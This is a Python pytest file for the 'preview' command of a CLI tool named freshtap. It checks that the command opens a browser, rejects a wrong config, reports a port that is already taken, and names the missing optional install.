def test_the_page_is_opened_where_one_asks_for_it(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """--open opens the printed address; where there is no browser, that is said."""
    opened = []

    def open_page(address: str) -> bool:
        opened.append(address)
        return False

    monkeypatch.setattr("webbrowser.open", open_page)
    # There is nothing to wait for.
    monkeypatch.setattr(
        "freshtap.cli.pages.threading", SimpleNamespace(Event=lambda: SimpleNamespace(wait=lambda: None))
    )
    (tmp_path / "freshtap.toml").write_text(CONFIG.replace("SDK", "https://sdk.site.test/x.js"), encoding="utf-8")
    result = CliRunner().invoke(main, ["preview", "--open", str(tmp_path / "freshtap.toml")])
    assert result.exit_code == 0
    assert opened == [result.stdout.split()[3]]
    assert result.stderr == "There is no browser to open: open that address yourself.\n"


def test_the_command_refuses_a_wrong_config(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """With all that is wrong with it, and nothing served."""
    monkeypatch.chdir(tmp_path)
    (tmp_path / "freshtap.toml").write_text('[clevertap]\naccount_id = "x"\nregion = "y"\n', encoding="utf-8")
    result = CliRunner().invoke(main, ["preview"])
    assert result.exit_code == 2
    assert result.stderr == CliRunner().invoke(main, ["check"]).stderr
    assert result.stderr.count("Error: ") == 2
    assert CliRunner().invoke(main, ["preview", "none.toml"]).exit_code == 2


def test_a_port_that_is_taken(opens: Opens, tmp_path: Path) -> None:
    """One sentence, and no traceback."""
    taken = opens(ready=False).preview.workbench.server_address[1]
    (tmp_path / "freshtap.toml").write_text(CONFIG.replace("SDK", "https://sdk.site.test/x.js"), encoding="utf-8")
    result = CliRunner().invoke(main, ["preview", str(tmp_path / "freshtap.toml"), "--port", str(taken)])
    assert result.exit_code == 2
    assert re.fullmatch(
        rf"Error: Port {taken} of this machine cannot be used \(.*\)\. Name another with --port\.\n", result.stderr
    )


def test_without_the_extra(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """One sentence says what to install."""
    monkeypatch.setitem(sys.modules, "freshtap.preview", None)
    monkeypatch.delattr("freshtap.preview", raising=False)
    result = CliRunner().invoke(main, ["preview", str(tmp_path / "freshtap.toml")])
    sentence = 'freshtap preview needs an extra: pip install ".[verify]", in a checkout of freshtap.'
    assert (result.exit_code, result.stderr) == (2, f"Error: {sentence}\n")
